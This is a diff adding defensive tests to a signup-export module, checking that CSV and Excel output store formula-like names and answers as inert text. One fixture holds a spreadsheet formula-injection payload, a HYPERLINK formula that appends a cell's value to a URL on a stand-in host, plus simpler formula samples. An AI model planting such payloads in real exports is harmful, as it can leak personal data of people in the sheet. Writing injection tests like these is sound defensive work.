@@ -1,8 +1,9 @@
 // @vitest-environment node
 import { inflateRawSync } from 'node:zlib';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { OfficeSignup } from './courses-console-api';
-import { signupsTable, xlsxBlob, type SignupsWords } from './signups-export';
+import { signupsCsv, signupsTable, xlsxBlob, type SignupsWords } from './signups-export';
 
 const words: SignupsWords = {
   columns: ['ticket', 'Persona', 'Correo', 'Grupo', 'Estado', 'Pago', 'Precio', 'Fecha'],
@@ -94,6 +95,29 @@ describe('the signups export', () => {
     expect(table.rows[1]!.slice(4, 10)).toEqual(['En lista de espera', 'Pagado', 45.5, '2026-11-20T10:00:00.000Z', 'Azul', '']);
   });
 
+  /** A member named like a formula, with answers typed like formulas (one with a line break). */
+  const hyperlink = '=HYPERLINK("http://x.example/?"&C2,"Ver")';
+  const hostile = {
+    ...signup(3, [
+      { id: 'cap', type: 'text', ...label('Color del gorro', 'Txanoaren kolorea'), inputdata: `${hyperlink}\nGracias` },
+      { id: 'note', type: 'textarea', ...label('@Nota', '@Oharra'), inputdata: '\t=1+2' },
+    ]),
+    first_name: '=1+2',
+    last_name: 'Zubia',
+    email: '+34@example.com',
+  } as OfficeSignup;
+
+  it('writes names and answers typed like formulas as text: no CSV cell starts with = + - @ tab or CR unquoted', () => {
+    const csv = signupsCsv(signupsTable([...signups, hostile], 'es', words));
+    expect(csv.startsWith('\uFEFF')).toBe(true);
+    const cells = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
+    expect(cells).toHaveLength(4);
+    for (const cell of cells.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
+    expect(cells[0]).toContain("'@Nota");
+    expect(cells[3]!.slice(0, 3)).toEqual(['3', "'=1+2 Zubia", "'+34@example.com"]);
+    expect(cells[3]).toEqual(expect.arrayContaining([`'${hyperlink}\nGracias`, "'\t=1+2"]));
+  });
+
   it('writes a workbook that holds the answers', async () => {
     const blob = await xlsxBlob(signupsTable(signups, 'es', words), 'Inscripciones');
     const bytes = Buffer.from(await blob.arrayBuffer());
@@ -102,5 +126,15 @@ describe('the signups export', () => {
     expect(files.get('xl/workbook.xml')).toContain('name="Inscripciones"');
     const text = [...files.values()].join('\n');
     for (const s of ['Color del gorro', 'Rojo', 'Azul', 'Sí, 50 m', 'tarjeta.pdf', 'ane2@example.com']) expect(text).toContain(s);
+  });
+
+  it('writes values typed like formulas into the workbook as strings, never as formulas', async () => {
+    const files = unzip(Buffer.from(await (await xlsxBlob(signupsTable([hostile], 'es', words), 'Inscripciones')).arrayBuffer()));
+    const rows = files.get('xl/worksheets/sheet1.xml')!;
+    expect(rows).not.toContain('<f>');
+    expect([...rows.matchAll(/<c [^>]*\bt="([^"]+)"/g)].map((m) => m[1]).filter((t) => t !== 's')).toEqual([]);
+    const strings = files.get('xl/sharedStrings.xml')!;
+    for (const s of ['=1+2 Zubia', '+34@example.com', '@Nota', `${hyperlink}\nGracias`])
+      expect(strings).toContain(`<t>${s.replaceAll('&', '&amp;')}</t>`);
   });
 });
